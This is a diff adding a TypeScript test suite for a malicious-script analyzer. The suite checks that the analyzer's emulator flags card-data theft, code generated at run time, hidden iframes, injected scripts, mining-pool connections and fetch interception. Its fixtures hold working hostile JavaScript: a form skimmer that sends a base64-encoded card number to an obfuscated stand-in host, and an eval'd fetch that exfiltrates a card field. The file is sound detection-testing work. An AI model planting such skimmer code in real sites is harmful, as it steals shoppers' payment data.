@@ -1,0 +1,102 @@
+import assert from 'node:assert/strict';
+import { featureNames } from '../../../analyzer/features.ts';
+import { examineDeeply, type Examination } from '../../../analyzer/examine.ts';
+import { createEmulator, type Emulator } from '../../../analyzer/emulator/index.ts';
+import { traceRules } from '../../../analyzer/trace/index.ts';
+import { evidence as evidenceSchema, severities } from '../../../core/schema/index.ts';
+
+const hidden = (host: string): string => `atob('${Buffer.from(host).toString('base64')}')`;
+const skimmer = `document.querySelector('form').addEventListener('submit',function(){new Image().src='https://'+${hidden('stats.bad.example')}+'/p.gif?d='+btoa(document.querySelector('#cc_number').value)});`;
+
+describe('applyTrace', function () {
+  this.timeout(60_000);
+  let emulator: Emulator;
+  before(() => {
+    emulator = createEmulator({ workers: 1, timeoutMs: 30_000 });
+  });
+  after(() => emulator.close());
+
+  const run = (text: string, path = 'a.js'): Promise<Examination> =>
+    examineDeeply({ path, bytes: Buffer.from(text), level: 'full' }, (script) => emulator.emulate(script));
+
+  it('says what was typed and where it went', async () => {
+    const [script] = (await run(`var a = 1;\n${skimmer}`)).scripts;
+    const found = script!.evidence.find(({ rule }) => rule === 'typed-data-sent');
+    assert.match(
+      found!.message,
+      /card number was seen on its way to stats\.bad\.example, in an image address, base64/,
+    );
+    assert.deepEqual(
+      [found!.severity, found!.host, found!.location.line],
+      ['critical', 'stats.bad.example', 2],
+    );
+    assert.ok(script!.behaviour.hosts.includes('stats.bad.example'));
+  });
+
+  it('adds numbers of the run to the vector', async () => {
+    const [script] = (await run(skimmer)).scripts;
+    const number = (name: string): number => script!.features[featureNames.indexOf(`emulation@1/${name}`)]!;
+    assert.equal(script!.features.length, featureNames.length);
+    assert.equal(number('ran'), 1);
+    assert.ok(number('payment-proven-by-canary') > 0);
+    assert.ok(number('hidden-hosts') > 0);
+    assert.ok(script!.features.every(Number.isFinite));
+  });
+
+  it('analyses code made at run time, and places what it finds where that was made', async () => {
+    const inner = `fetch('https://x.example/', { method: 'POST', body: btoa(document.getElementById('cc-number').value) })`;
+    const [script] = (await run(`var b = 2;\n\neval(${hidden(inner)});`)).scripts;
+    const found = script!.evidence.find(({ rule }) => rule === 'card-field-to-host');
+    assert.match(found!.message, /in code made at run time by eval/);
+    assert.deepEqual(found!.location, { line: 3, column: 1 });
+  });
+
+  it('gives places in the page for scripts of a page', async () => {
+    const page = `<!doctype html>\n<p>\n<script>\n${skimmer}</script>`;
+    const { scripts } = await run(page, 'a.html');
+    assert.ok(
+      scripts[0]!.evidence.some(({ rule, location }) => rule === 'typed-data-sent' && location.line === 4),
+    );
+  });
+
+  it('does not run what only computes', async () => {
+    const { scripts } = await run('var total = 0; for (var i = 0; i < 9; i++) total += i * i;');
+    assert.equal(scripts[0]!.timings.emulationMs, undefined);
+    assert.equal(scripts[0]!.features[featureNames.indexOf('emulation@1/ran')], 0);
+  });
+
+  it('gives the same result twice', async () => {
+    const plain = ({ scripts }: Examination): unknown =>
+      scripts.map((script) => ({ ...script, timings: null }));
+    assert.deepEqual(plain(await run(skimmer)), plain(await run(skimmer)));
+  });
+
+  it('keeps to the published shape and to declared severities', async () => {
+    const texts = [
+      skimmer,
+      `document.write('<ifr'+'ame src="http://'+${hidden('x.bad.example')}+'/" width=0 height=0></iframe>')`,
+      `var s = document.createElement('script'); s.src = ${hidden('https://cdn.bad.example/x.js')}; document.head.appendChild(s)`,
+      `var s = new WebSocket('wss://pool.example/'); s.onopen = function () { s.send('{"method":"login","params":{}}') }`,
+      `var f = window.fetch; window.fetch = function () { new Image().src = 'https://x.example/'; return f.apply(this, arguments) }`,
+    ];
+    const seen = new Set<string>();
+    for (const text of texts)
+      for (const script of (await run(text)).scripts)
+        for (const one of script.evidence) {
+          evidenceSchema.parse(one);
+          const rule = traceRules.find(({ name }) => name === one.rule);
+          if (!rule) continue;
+          seen.add(rule.name);
+          const [least, most] = rule.severity.map((severity) => severities.indexOf(severity));
+          const rank = severities.indexOf(one.severity);
+          assert.ok(rank >= least! && rank <= most!, `${one.rule} gave ${one.severity}`);
+        }
+    assert.deepEqual([...seen].sort(), [
+      'hidden-destination',
+      'hidden-frame-written',
+      'mining-pool',
+      'requests-intercepted',
+      'typed-data-sent',
+    ]);
+  });
+});
